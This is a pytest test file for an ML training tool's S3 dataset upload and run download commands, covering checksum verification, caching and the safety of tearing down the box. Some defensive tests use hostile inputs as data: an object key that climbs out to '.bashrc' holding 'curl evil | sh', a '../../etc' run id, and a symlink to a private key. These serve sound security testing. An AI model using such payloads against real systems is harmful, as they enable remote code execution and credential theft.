"""`fab upload-data` and `fab download` against S3 (moto), with the local box."""

import hashlib
import json
import subprocess
import sys
import uuid

import numpy as np
import pytest

from ops.data.download_verdict import NOT_SAFE_EXIT_CODE
from tests.ops.conftest import assert_one_line_error, wait_for_status
from trainer.checkpoints.layout import hash_line
from trainer.config import UserError
from trainer.data.manifest import fetch


@pytest.fixture
def s3_box(local_box, moto_server):
    """The local box with its storage in a fresh moto bucket."""
    bucket_uri = moto_server.create_bucket(prefix="stack")
    local_box.write_target(storageUri=bucket_uri)
    local_box.env.update(moto_server.env)
    return local_box, bucket_uri


# Small and quick on 2 CPU cores: resnet18, tiny batches, a checkpoint every 4 steps.
STOPPED_RUN_ARGS = (
    "--model resnet18 --batch-size 16 --epochs 50 --log-every 1 --checkpoint-every-steps 4"
)


def _split(uri):
    bucket, _, prefix = uri.removeprefix("s3://").partition("/")
    return bucket, prefix


def _dataset(directory):
    directory.mkdir()
    rng = np.random.default_rng(0)
    np.save(directory / "windows.npy", rng.standard_normal((64, 100)).astype(np.float16))
    np.save(directory / "glucose.npy", rng.uniform(70, 200, 64).astype(np.float32))
    np.save(directory / "case_id.npy", np.repeat(np.arange(8, dtype=np.int32), 8))
    (directory / "meta.json").write_text('{"window_length": 100}\n')
    return directory


def _sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def test_upload_data_puts_every_file_and_a_manifest(s3_box, moto_server, tmp_path):
    box, bucket_uri = s3_box
    data = _dataset(tmp_path / "synthetic-small")
    result = box.fab("upload-data", "--data", str(data))
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == f"{bucket_uri}/datasets/synthetic-small"
    bucket, prefix = _split(bucket_uri)
    s3 = moto_server.client()
    manifest_key = f"{prefix}/datasets/synthetic-small/manifest.json"
    manifest = json.loads(s3.get_object(Bucket=bucket, Key=manifest_key)["Body"].read())
    assert sorted(manifest["files"]) == ["case_id.npy", "glucose.npy", "meta.json", "windows.npy"]
    for name, entry in manifest["files"].items():
        body = s3.get_object(Bucket=bucket, Key=f"{prefix}/datasets/synthetic-small/{name}")
        assert _sha(body["Body"].read()) == entry["sha256"] == _sha((data / name).read_bytes())


def test_upload_data_again_sends_nothing(s3_box, tmp_path):
    box, _ = s3_box
    data = _dataset(tmp_path / "again")
    assert box.fab("upload-data", "--data", str(data)).returncode == 0
    second = box.fab("upload-data", "--data", str(data))
    assert second.returncode == 0, second.stderr
    assert "already holds this dataset" in second.stderr


def test_upload_data_refuses_a_directory_that_is_no_dataset(s3_box, tmp_path):
    box, _ = s3_box
    (tmp_path / "empty").mkdir()
    result = box.fab("upload-data", "--data", str(tmp_path / "empty"))
    assert result.returncode == 1
    assert_one_line_error(result, "windows.npy: file is missing")


def test_upload_data_checks_the_dataset_as_the_trainer_does_and_uploads_nothing(
    local_box, tmp_path
):
    data = _dataset(tmp_path / "no-labels")
    (data / "glucose.npy").unlink()
    result = local_box.fab("upload-data", "--data", str(data))
    assert result.returncode == 1
    assert_one_line_error(
        result, f"{data / 'glucose.npy'}: file is missing", "the trainer's check; nothing uploaded"
    )
    assert not (local_box.root.parent / "storage").exists()


def test_box_side_fetch_verifies_and_caches(s3_box, moto_server, tmp_path, monkeypatch):
    box, bucket_uri = s3_box
    for name, value in moto_server.env.items():
        monkeypatch.setenv(name, value)
    data = _dataset(tmp_path / "fetched")
    assert box.fab("upload-data", "--data", str(data)).returncode == 0
    uri = f"{bucket_uri}/datasets/fetched"
    cache = tmp_path / "cache" / "fetched"
    assert "sha256 verified" in fetch(uri, cache)
    assert (cache / "windows.npy").read_bytes() == (data / "windows.npy").read_bytes()
    assert "already cached" in fetch(uri, cache)


def test_box_side_fetch_rejects_a_damaged_object(s3_box, moto_server, tmp_path, monkeypatch):
    box, bucket_uri = s3_box
    for name, value in moto_server.env.items():
        monkeypatch.setenv(name, value)
    data = _dataset(tmp_path / "damaged")
    assert box.fab("upload-data", "--data", str(data)).returncode == 0
    bucket, prefix = _split(bucket_uri)
    key = f"{prefix}/datasets/damaged/glucose.npy"
    moto_server.client().put_object(Bucket=bucket, Key=key, Body=b"not the data")
    with pytest.raises(UserError, match=r"glucose\.npy: sha256"):
        fetch(f"{bucket_uri}/datasets/damaged", tmp_path / "cache2")


RUN_FILES = {
    "metrics.jsonl": b'{"step": 1, "train_loss": 0.5}\n{"step": 2, "train_loss": 0.4}\n',
    "summary.json": b'{"best_epoch": 1}\n',
    "checkpoints/last.pt": b"checkpoint bytes" * 1000,
    "checkpoints/LATEST": b"last.pt\n",
}


def _put_run(box, moto_server, bucket_uri, run_id, *, box_copy=True):
    """A run as the trainer leaves it: mirrored to S3 and on the box's disk."""
    bucket, prefix = _split(bucket_uri)
    s3 = moto_server.client()
    files = dict(RUN_FILES)
    digest = _sha(files["checkpoints/last.pt"])
    files["checkpoints/last.pt.sha256"] = f"{digest}  last.pt\n".encode()
    for name, body in files.items():
        s3.put_object(Bucket=bucket, Key=f"{prefix}/runs/{run_id}/{name}", Body=body)
        if box_copy:
            path = box.root / "runs" / run_id / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(body)
    return files


def test_download_fetches_every_file_verified_and_says_destroy_is_safe(
    s3_box, moto_server, tmp_path
):
    box, bucket_uri = s3_box
    files = _put_run(box, moto_server, bucket_uri, "r1")
    to = tmp_path / "results"
    result = box.fab("download", "--run", "r1", "--to", str(to))
    assert result.returncode == 0, result.stderr
    for name, body in files.items():
        assert (to / name).read_bytes() == body
    manifest = json.loads((to / "manifest.json").read_text())
    assert {k: v["sha256"] for k, v in manifest["files"].items()} == {
        k: _sha(v) for k, v in files.items()
    }
    assert f"{len(files)} files fetched" in result.stdout
    assert "safe to `pulumi destroy`" in result.stderr


def test_download_again_fetches_nothing(s3_box, moto_server, tmp_path):
    box, bucket_uri = s3_box
    files = _put_run(box, moto_server, bucket_uri, "r2")
    to = tmp_path / "results"
    assert box.fab("download", "--run", "r2", "--to", str(to)).returncode == 0
    again = box.fab("download", "--run", "r2", "--to", str(to))
    assert again.returncode == 0, again.stderr
    assert f"0 files fetched, {len(files)} already here" in again.stdout


def test_download_skips_a_checkpoint_that_does_not_match_its_sidecar_and_fetches_the_rest(
    s3_box, moto_server, tmp_path
):
    box, bucket_uri = s3_box
    _put_run(box, moto_server, bucket_uri, "r3", box_copy=False)
    bucket, prefix = _split(bucket_uri)
    key = f"{prefix}/runs/r3/checkpoints/last.pt"
    moto_server.client().put_object(Bucket=bucket, Key=key, Body=b"truncated")
    result = box.fab("download", "--run", "r3", "--to", str(tmp_path / "d"), "--offline")
    assert result.returncode == NOT_SAFE_EXIT_CODE
    assert "checkpoints/last.pt: not downloaded: sha256" in result.stderr
    assert not (tmp_path / "d" / "checkpoints" / "last.pt").exists()
    assert (tmp_path / "d" / "summary.json").read_bytes() == RUN_FILES["summary.json"]


def test_download_warns_when_the_box_holds_files_storage_lacks(s3_box, moto_server, tmp_path):
    box, bucket_uri = s3_box
    _put_run(box, moto_server, bucket_uri, "r4")
    (box.root / "runs" / "r4" / "report.md").write_text("not uploaded yet\n")
    result = box.fab("download", "--run", "r4", "--to", str(tmp_path / "d"))
    assert result.returncode == NOT_SAFE_EXIT_CODE, result.stderr
    assert "not safe to `pulumi destroy`" in result.stderr
    assert "report.md" in result.stderr


def test_download_refuses_a_key_that_climbs_out_and_says_destroy_is_not_safe(
    s3_box, moto_server, tmp_path
):
    box, bucket_uri = s3_box
    _put_run(box, moto_server, bucket_uri, "r5")
    bucket, prefix = _split(bucket_uri)
    hostile = f"{prefix}/runs/r5/../../../../.bashrc"
    moto_server.client().put_object(Bucket=bucket, Key=hostile, Body=b"curl evil | sh\n")
    to = tmp_path / "a" / "b" / "c" / "results"
    result = box.fab("download", "--run", "r5", "--to", str(to))
    assert result.returncode == NOT_SAFE_EXIT_CODE, result.stderr
    assert "refused object key '../../../../.bashrc'" in result.stderr
    assert "not safe to `pulumi destroy`: 1 stored keys were refused" in result.stderr
    assert not (tmp_path / ".bashrc").exists()
    assert "../../../../.bashrc" not in (to / "manifest.json").read_text()


def test_download_refuses_a_run_id_that_is_a_path(s3_box, tmp_path):
    box, _ = s3_box
    result = box.fab("download", "--run", "../../etc", "--offline", "--to", str(tmp_path / "d"))
    assert_one_line_error(result, "--run '../../etc' is not a usable run id")


def test_upload_data_refuses_a_symlink_out_of_the_dataset(tmp_path):
    from invoke.exceptions import Exit

    from ops.data.transfer import upload_dataset

    data = _dataset(tmp_path / "handed-to-me")
    (tmp_path / "id_ed25519").write_text("PRIVATE KEY\n")
    (data / "notes.txt").symlink_to(tmp_path / "id_ed25519")
    store = tmp_path / "store"
    with pytest.raises(Exit, match=r"notes\.txt is a symlink to .*id_ed25519, outside"):
        upload_dataset(data, f"file://{store}")
    assert not store.exists()


def test_download_of_an_upload_pending_run_says_where_the_missing_files_are(
    s3_box, moto_server, tmp_path
):
    box, bucket_uri = s3_box
    _put_run(box, moto_server, bucket_uri, "r6")
    run_dir = box.root / "runs" / "r6"
    (run_dir / "report.md").write_text("# the report\n")  # storage was down at the end
    (run_dir / "checkpoints" / "step-000000009-epoch-0002.pt").write_bytes(b"final weights")
    (run_dir / "status.json").write_text('{"state": "finished-upload-pending"}\n')
    result = box.fab("download", "--run", "r6", "--to", str(tmp_path / "d"))
    assert result.returncode == NOT_SAFE_EXIT_CODE, result.stderr
    advice = result.stderr.strip().splitlines()[-1]
    assert (
        "not safe to `pulumi destroy`: the run finished, but 3 of its files have not reached "
        "storage (checkpoints/step-000000009-epoch-0002.pt, report.md, status.json)"
    ) in advice
    assert f"they wait on the box in {box.server.user}@{box.server.host}:{run_dir}" in advice
    assert "docker start glucose-train-r6" in advice


def _stored_upload_pending(moto_server, bucket_uri, run_id, missing) -> None:
    """A run as storage holds it once the box gave up starting it: the files that
    landed, and a status that says `finished-upload-pending` (naming what storage
    lacks, where the box listed it: box/unfinished_uploads.py)."""
    from box.contract import UPLOADS_MISSING

    uploads = {"pending": 1, **({UPLOADS_MISSING: missing} if missing is not None else {})}
    status = {"run_id": run_id, "state": "finished-upload-pending", "uploads": uploads}
    objects = {"summary.json": b"{}", "status.json": json.dumps(status).encode()}
    _put_objects(moto_server, bucket_uri, run_id, objects)


def test_download_offline_of_a_run_whose_last_uploads_did_not_land_is_not_safe(
    s3_box, moto_server, tmp_path
):
    box, bucket_uri = s3_box
    missing = ["checkpoints/step-000000009-epoch-0002.pt", "report.md"]
    _stored_upload_pending(moto_server, bucket_uri, "r9", missing)
    result = box.fab("download", "--run", "r9", "--to", str(tmp_path / "d"), "--offline")
    assert result.returncode == NOT_SAFE_EXIT_CODE, result.stderr
    advice = result.stderr.strip().splitlines()[-1]
    assert advice.startswith(
        "not safe to `pulumi destroy`: the run finished, but 2 of its files have not reached "
        f"storage ({', '.join(missing)}); they wait on the box that ran it"
    ), advice
    assert "docker start glucose-train-r9" in advice


def test_download_offline_of_a_run_whose_files_the_box_has_not_named_is_not_safe(
    s3_box, moto_server, tmp_path
):
    box, bucket_uri = s3_box
    _stored_upload_pending(moto_server, bucket_uri, "r10", None)
    result = box.fab("download", "--run", "r10", "--to", str(tmp_path / "d"), "--offline")
    assert result.returncode == NOT_SAFE_EXIT_CODE, result.stderr
    assert (
        "not safe to `pulumi destroy`: the run finished, but its last uploads have not all "
        "reached storage; they wait on the box that ran it"
    ) in result.stderr


def _put_objects(moto_server, bucket_uri, run_id, objects: dict[str, bytes]) -> None:
    """Objects of run `run_id` as its trainer (or anything else on the box) writes them."""
    bucket, prefix = _split(bucket_uri)
    for key, body in objects.items():
        moto_server.client().put_object(
            Bucket=bucket, Key=f"{prefix}/runs/{run_id}/{key}", Body=body
        )


def _on_box(box, run_id, files: dict[str, bytes]) -> None:
    for name, body in files.items():
        path = box.root / "runs" / run_id / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(body)


def _name(step: int) -> str:
    return f"step-{step:09d}-epoch-0001.pt"


def _checkpoint(step: int) -> dict[str, bytes]:
    """A step file and its sidecar, as `trainer.checkpoints.layout` uploads them."""
    body = f"weights at step {step}".encode() * 100
    return {
        f"checkpoints/{_name(step)}": body,
        f"checkpoints/{_name(step)}.sha256": hash_line(_sha(body), _name(step)).encode(),
    }


def _pointers(latest: int, best: int) -> dict[str, bytes]:
    """LATEST and BEST: in the store only, names of one length whatever the step."""
    return {"checkpoints/LATEST": _name(latest).encode(), "checkpoints/BEST": _name(best).encode()}


def test_download_says_how_many_files_each_check_verified(s3_box, moto_server, tmp_path):
    box, bucket_uri = s3_box
    run = {"metrics.jsonl": RUN_FILES["metrics.jsonl"], "summary.json": b"{}\n", **_checkpoint(10)}
    _put_objects(moto_server, bucket_uri, "r10", {**run, **_pointers(10, 10)})
    _on_box(box, "r10", run)
    result = box.fab("download", "--run", "r10", "--to", str(tmp_path / "d"))
    assert result.returncode == 0, result.stderr
    assert (
        "verified: 1 by their .sha256 sidecar, 3 by the box's copy, 2 by the store's listing "
        "(size and version); not verified: 0; not downloaded: 0"
    ) in result.stdout


def test_download_again_brings_the_pointers_the_store_moved_since(s3_box, moto_server, tmp_path):
    box, bucket_uri = s3_box
    run = {"metrics.jsonl": RUN_FILES["metrics.jsonl"], **_checkpoint(75), **_checkpoint(100)}
    _put_objects(moto_server, bucket_uri, "r7", {**run, **_pointers(latest=100, best=75)})
    _on_box(box, "r7", run)
    to = tmp_path / "results"
    assert box.fab("download", "--run", "r7", "--to", str(to)).returncode == 0
    # The run went on to step 225, its best so far.
    _put_objects(moto_server, bucket_uri, "r7", {**_checkpoint(225), **_pointers(225, 225)})
    _on_box(box, "r7", _checkpoint(225))

    again = box.fab("download", "--run", "r7", "--to", str(to))

    assert again.returncode == 0, again.stderr
    assert (to / "checkpoints" / "LATEST").read_text() == _name(225)
    assert (to / "checkpoints" / "BEST").read_text() == _name(225)
    assert "4 files fetched" in again.stdout
    assert "everything is here and verified: safe to `pulumi destroy`" in again.stderr


def test_download_again_offline_brings_the_status_the_run_rewrote_since(
    s3_box, moto_server, tmp_path
):
    box, bucket_uri = s3_box
    status = {"run_id": "r8", "state": "running", "step": 6}
    _put_objects(moto_server, bucket_uri, "r8", {"status.json": json.dumps(status).encode()})
    to = tmp_path / "results"
    assert box.fab("download", "--run", "r8", "--to", str(to), "--offline").returncode == 0
    status["step"] = 12
    _put_objects(moto_server, bucket_uri, "r8", {"status.json": json.dumps(status).encode()})

    again = box.fab("download", "--run", "r8", "--to", str(to), "--offline")

    assert again.returncode == 0, again.stderr
    assert json.loads((to / "status.json").read_text())["step"] == 12
    assert "1 files fetched, 0 already here" in again.stdout


def test_download_names_a_key_that_collides_with_another_and_fetches_the_rest(
    s3_box, moto_server, tmp_path
):
    box, bucket_uri = s3_box
    objects = {"report.md": b"# the report\n", "report.md/x": b"!", "summary.json": b"{}\n"}
    _put_objects(moto_server, bucket_uri, "r9", objects)
    to = tmp_path / "results"

    result = box.fab("download", "--run", "r9", "--to", str(to))

    assert result.returncode == NOT_SAFE_EXIT_CODE
    assert_one_line_error(result, "not safe to `pulumi destroy`: 1 stored files are not here")
    assert "report.md/x: not downloaded: it collides with another key's file" in result.stderr
    assert (to / "report.md").read_bytes() == objects["report.md"]
    assert (to / "summary.json").read_bytes() == objects["summary.json"]


def test_download_names_an_empty_sidecar_fetches_the_rest_and_calls_nothing_safe(
    s3_box, moto_server, tmp_path
):
    box, bucket_uri = s3_box
    torn = f"checkpoints/{_name(10)}.sha256"
    objects = {**_checkpoint(10), torn: b"", "summary.json": b"{}\n"}
    _put_objects(moto_server, bucket_uri, "r11", objects)
    to = tmp_path / "results"

    result = box.fab("download", "--run", "r11", "--to", str(to), "--offline")

    assert result.returncode == NOT_SAFE_EXIT_CODE
    assert_one_line_error(result, "not safe to `pulumi destroy`: 1 stored files are not here")
    assert f"{torn}: not downloaded: it is no sha256 record" in result.stderr
    assert f"not verified: 1 (checkpoints/{_name(10)})" in result.stdout
    assert (to / "summary.json").read_bytes() == objects["summary.json"]


@pytest.mark.e2e  # sshd, the Docker engine, the trainer image and moto
def test_a_run_stopped_over_ssh_downloads_whole_every_file_verified(
    s3_box, moto_server, trainer_image, docker_engine, tmp_path
):
    box, bucket_uri = s3_box
    box.write_target(storageUri=bucket_uri, containerEnv=moto_server.env, dockerNetwork="host")
    data = tmp_path / "synth-stop"
    subprocess.run(
        [sys.executable, "-m", "trainer", "synth", "--out", str(data), "--cases", "12",
         "--windows-per-case", "64", "--seed", "0"],
        check=True, capture_output=True,
    )  # fmt: skip
    assert box.fab("upload-data", "--data", str(data)).returncode == 0
    run_id = f"stop-dl-{uuid.uuid4().hex[:8]}"
    try:
        started = box.fab("train", "--dataset", "synth-stop", "--run", run_id, "--trainer-args",
                          STOPPED_RUN_ARGS, "--image-name", trainer_image.tag)  # fmt: skip
        assert started.returncode == 0, started.stdout + started.stderr
        wait_for_status(box.fab, run_id, r"state:\s+running[\s\S]*step [1-9]\d* /", 2)
        stopped = box.fab("stop", "--run", run_id)
        assert stopped.returncode == 0 and "exit 75" in stopped.stdout, stopped.stdout
        to = tmp_path / "stopped"
        downloaded = box.fab("download", "--run", run_id, "--to", str(to))
    finally:
        docker_engine.run(["rm", "--force", f"glucose-train-{run_id}"], timeout_seconds=120,
                          check=False)  # fmt: skip
    assert downloaded.returncode == 0, downloaded.stdout + downloaded.stderr
    assert "not verified: 0; not downloaded: 0;" in downloaded.stdout, downloaded.stdout
    assert "everything is here and verified: safe to `pulumi destroy`" in downloaded.stderr
    stored_log = (to / "train.log").read_text().splitlines()
    assert stored_log[-1].startswith("stop requested (SIGTERM)"), stored_log[-3:]
